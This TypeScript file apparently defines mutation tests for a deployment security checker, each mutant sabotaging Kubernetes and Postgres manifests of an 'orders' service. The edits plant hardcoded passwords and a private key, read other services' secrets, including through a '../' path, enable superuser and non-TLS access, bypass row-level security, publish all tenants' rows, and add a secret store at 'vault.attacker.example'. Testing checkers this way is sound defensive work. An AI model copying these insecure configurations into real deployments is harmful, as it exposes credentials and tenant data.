import type { Mutant } from './mutant';

const SERVICE = 'deploy/base/service-deployment.yaml';
const DISPATCHER = 'deploy/base/dispatcher-deployment.yaml';
const DATABASE = 'deploy/base/database.yaml';
const TOKEN = 'deploy/base/service-token.yaml';
const CREDENTIALS = 'deploy/base/database-credentials.yaml';

/** Sabotages of secrets and of database credentials in manifests. */
export const manifestSecretMutants: readonly Mutant[] = [
  {
    id: 'secret-object',
    title: 'a Secret stands in the tree',
    caseName: 'orders',
    edits: {
      [TOKEN]: text => `${text}---
apiVersion: v1
kind: Secret
metadata:
  name: orders-partner
data:
  key: c2VjcmV0LXZhbHVl
`,
    },
    caughtBy: { control: 'SEC-20' },
  },
  {
    id: 'secret-generator',
    title: 'a kustomization makes a Secret of a literal',
    caseName: 'orders',
    edits: {
      'deploy/overlays/development/kustomization.yaml': text =>
        text.replace(
          'labels:\n',
          'secretGenerator:\n  - name: orders-partner\n    literals:\n      - key=secret-value\nlabels:\n',
        ),
    },
    caughtBy: { control: 'SEC-20' },
  },
  {
    id: 'password-in-the-environment',
    title: 'a password stands in a variable',
    caseName: 'orders',
    edits: {
      [SERVICE]: text =>
        text.replace(
          '          env:\n',
          '          env:\n            - name: PARTNER_PASSWORD\n              value: hunter2hunter2\n',
        ),
    },
    caughtBy: { control: 'SEC-21' },
  },
  {
    id: 'connection-string-in-the-configuration',
    title: 'the configuration holds an address with a password',
    caseName: 'orders',
    edits: {
      'deploy/overlays/production/config.yaml': text =>
        text.replace(
          '"telemetry":',
          '"reporting": { "database": "postgres://report:hunter2@orders-postgres-rw:5432/orders" },\n      "telemetry":',
        ),
    },
    caughtBy: { control: 'SEC-21' },
  },
  {
    id: 'password-in-the-template',
    title:
      'the password of the runtime role is a literal in the ExternalSecret',
    caseName: 'orders',
    edits: {
      [CREDENTIALS]: text =>
        text.replace('password: "{{ .password }}"', 'password: hunter2hunter2'),
    },
    caughtBy: { control: 'SEC-21' },
  },
  {
    id: 'secret-from-the-environment',
    title: 'the service reads a secret from its environment',
    caseName: 'orders',
    edits: {
      [SERVICE]: text =>
        text.replace(
          '          ports:\n',
          '          envFrom:\n            - secretRef:\n                name: orders-service-token\n          ports:\n',
        ),
    },
    caughtBy: { control: 'SEC-22' },
  },
  {
    id: 'cluster-wide-store',
    title: 'the secret comes from a store of the whole cluster',
    caseName: 'orders',
    edits: {
      [TOKEN]: text =>
        text.replace('kind: SecretStore', 'kind: ClusterSecretStore'),
    },
    caughtBy: { control: 'SEC-23' },
  },
  {
    id: 'never-refreshed',
    title: 'a revoked secret stays in the cluster',
    caseName: 'orders',
    edits: {
      [TOKEN]: text =>
        text.replace('refreshInterval: 1h0m0s', 'refreshInterval: "0"'),
    },
    caughtBy: { control: 'SEC-23' },
  },
  {
    id: 'own-store',
    title:
      'the service brings a store of its own under the name of the platform’s',
    caseName: 'orders',
    edits: {
      [TOKEN]: text => `${text}---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata:
  name: ameide-vault
spec:
  provider:
    vault:
      server: https://vault.attacker.example
      path: secret
      auth:
        tokenSecretRef: { name: vault-token, key: token }
`,
    },
    caughtBy: { control: 'SEC-23' },
  },
  {
    id: 'secret-of-another-service',
    title: "the service fetches another service's secret",
    caseName: 'orders',
    edits: {
      [TOKEN]: text =>
        text.replace(
          'services/orders/service-token',
          'services/billing/service-token',
        ),
    },
    caughtBy: { control: 'SEC-24' },
  },
  {
    id: 'secret-by-a-path-that-climbs',
    title: 'the path to the secret climbs out of its own',
    caseName: 'orders',
    edits: {
      [TOKEN]: text =>
        text.replace(
          'services/orders/service-token',
          'services/orders/../billing/service-token',
        ),
    },
    caughtBy: { control: 'SEC-24' },
  },
  {
    id: 'every-secret-of-the-path',
    title: 'the service searches all secrets of the platform',
    caseName: 'orders',
    edits: {
      [TOKEN]: text => `${text}  dataFrom:
    - find:
        name:
          regexp: .*
`,
    },
    caughtBy: { control: 'SEC-24' },
  },
  {
    id: 'superuser-access',
    title: 'the superuser of the database may sign in over the network',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(
          'enableSuperuserAccess: false',
          'enableSuperuserAccess: true',
        ),
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'role-past-row-level-security',
    title:
      'the operator makes the runtime role one that row-level security does not hold',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(/(name: orders_app\n[^]*?bypassrls: )false/, '$1true'),
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'plain-database',
    title: 'the database takes connections without TLS',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(
          '- hostnossl all all all reject',
          '- host all all all scram-sha-256',
        ),
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'statements-past-the-migrations',
    title: 'the bootstrap gives the runtime role the rights of the owner',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(
          '      dataChecksums: true\n',
          '      dataChecksums: true\n      postInitApplicationSQL:\n        - GRANT orders_owner TO orders_app\n',
        ),
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'owner-credentials-in-the-dispatcher',
    title: 'the dispatcher is given the credentials of the owner',
    caseName: 'orders',
    edits: {
      [DISPATCHER]: text =>
        text.replace(
          'secretName: orders-db-dispatcher',
          'secretName: orders-db-owner',
        ),
    },
    caughtBy: { control: 'SEC-26' },
  },
  {
    id: 'key-of-the-authority',
    title: "the private key of the database's authority is mounted",
    caseName: 'orders',
    edits: {
      [SERVICE]: text =>
        text.replace(
          /(secretName: orders-postgres-ca\n\s+defaultMode: 288\n)\s+items:\n\s+- key: ca\.crt\n\s+path: ca\.crt\n?/,
          '$1',
        ),
    },
    caughtBy: { control: 'SEC-26' },
  },
  {
    id: 'owner-credentials-under-another-name',
    title:
      "another secret is filled with the owner's credentials and given to the service",
    caseName: 'orders',
    edits: {
      [CREDENTIALS]: text =>
        text.replace('username: orders_app', 'username: orders_owner'),
    },
    caughtBy: { control: 'SEC-26' },
  },
  {
    id: 'secret-of-a-neighbour',
    title: 'the service mounts a secret of another service of the namespace',
    caseName: 'orders',
    edits: {
      [SERVICE]: text =>
        text.replace(
          'secretName: orders-service-token',
          'secretName: billing-service-token',
        ),
    },
    caughtBy: { control: 'SEC-27' },
  },
  {
    id: 'rows-published',
    title: 'a publication sends the rows of all tenants to whoever subscribes',
    caseName: 'orders',
    edits: {
      [DATABASE]: text => `${text}---
apiVersion: postgresql.cnpg.io/v1
kind: Publication
metadata:
  name: everything
spec:
  name: everything
  dbname: orders
  cluster: { name: orders-postgres }
  target: { allTables: true }
`,
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'a-second-job-as-owner',
    title: 'another Job is given the credentials of the owner',
    caseName: 'orders',
    edits: {
      'deploy/base/migration-job.yaml': text =>
        `${text}---\n${text.replaceAll('orders-migration', 'orders-report')}`,
    },
    caughtBy: { control: 'SEC-26' },
  },
  {
    id: 'private-key-in-an-annotation',
    title: 'an annotation holds a private key',
    caseName: 'orders',
    edits: {
      'deploy/base/service.yaml': text =>
        text.replace(
          'metadata:\n',
          'metadata:\n  annotations:\n    partner: "-----BEGIN EC PRIVATE KEY-----\\nMHcCAQEE\\n-----END EC PRIVATE KEY-----"\n',
        ),
    },
    caughtBy: { control: 'SEC-21' },
  },
  {
    id: 'memberships-inherited',
    title: 'the runtime role reads across organisations all the time',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(/(name: orders_app\n[^]*?inherit: )false/, '$1true'),
    },
    caughtBy: { control: 'SEC-25' },
  },
  {
    id: 'runtime-role-in-the-owner',
    title: 'the operator makes the runtime role a member of the owner',
    caseName: 'orders',
    edits: {
      [DATABASE]: text =>
        text.replace(
          '          - orders_tenant_wide\n',
          '          - orders_tenant_wide\n          - orders_owner\n',
        ),
    },
    caughtBy: { control: 'SEC-25' },
  },
];
